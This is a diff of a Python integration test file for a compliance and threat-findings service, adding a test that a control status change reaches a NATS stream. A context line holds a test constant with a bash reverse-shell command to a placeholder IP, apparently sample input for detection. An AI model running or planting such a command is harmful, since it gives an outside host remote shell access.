@@ -13,15 +13,17 @@ from collections.abc import Iterator
 from datetime import UTC, datetime
 
 import httpx2 as httpx
+import nats
 import pytest
 from pymongo import AsyncMongoClient
 
+from rampart.lib.catalogue import subjects
 from rampart.lib.store import Document
 from rampart_devtools.devstack import DevStack
 from rampart_threat.findings.ledger import MongoFindingLedger
 from rampart_threat.findings.model import Finding, FindingType, Severity
 from rampart_threat.findings.ports import Sighting
-from tests.integration.conftest import assert_refused, bearer, register
+from tests.integration.conftest import assert_refused, bearer, eventually, register
 
 REVERSE_SHELL = (
     b"#notes\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n"
@@ -36,15 +38,16 @@ def api_module(stack: DevStack) -> Iterator[httpx.Client]:
         yield client
 
 
-def record(stack: DevStack, finding: Finding) -> Sighting:
-    async def write() -> Sighting:
-        client: AsyncMongoClient[Document] = AsyncMongoClient(stack.mongodb_url, tz_aware=True)
-        try:
-            return await MongoFindingLedger(client["rampart_threat"]).record(finding)
-        finally:
-            await client.close()
+async def write(stack: DevStack, finding: Finding) -> Sighting:
+    client: AsyncMongoClient[Document] = AsyncMongoClient(stack.mongodb_url, tz_aware=True)
+    try:
+        return await MongoFindingLedger(client["rampart_threat"]).record(finding)
+    finally:
+        await client.close()
 
-    return asyncio.run(write())
+
+def record(stack: DevStack, finding: Finding) -> Sighting:
+    return asyncio.run(write(stack, finding))
 
 
 def weak_ciphers(org_id: str) -> Finding:
@@ -142,3 +145,26 @@ def test_manual_status_and_evidence_stay_with_their_organisation(
     assert (mine["evidence_count"], mine["attestation"]["owner"]) == (1, "usr_carol")
     theirs = control(api_module, bearer(stranger["api_key"]), "pci-dss:12.10.1")
     assert (theirs["status"], theirs["evidence_count"], theirs["attestation"]) == ("manual", 0, None)
+
+
+async def test_a_control_status_change_is_published_on_the_compliance_stream(stack: DevStack) -> None:
+    """compliance.changed reaches COMPLIANCE_EVENTS through report-service's outbox (read as report,
+    which owns the stream; consumers of it, such as webhooks, are another change)."""
+    nc = await nats.connect(stack.nats_url, **stack.certs("report").nats_options())
+    try:
+        js = nc.jetstream()
+
+        async def messages() -> int:
+            return int((await js.stream_info(subjects.COMPLIANCE_EVENTS_STREAM)).state.messages)
+
+        before = await eventually(messages, lambda n: n >= 0)
+        with httpx.Client(base_url=stack.gateway_url, timeout=60) as api:
+            owner = register(api)
+            key = bearer(owner["api_key"])
+            assert api.get("/api/v1/compliance", headers=key).status_code == 200  # the baseline
+            await write(stack, weak_ciphers(owner["org_id"]))
+            assert api.get("/api/v1/compliance", headers=key).status_code == 200
+        # every control the finding or its host now decides changed from not_assessed
+        await eventually(messages, lambda n: n >= before + 2)
+    finally:
+        await nc.close()
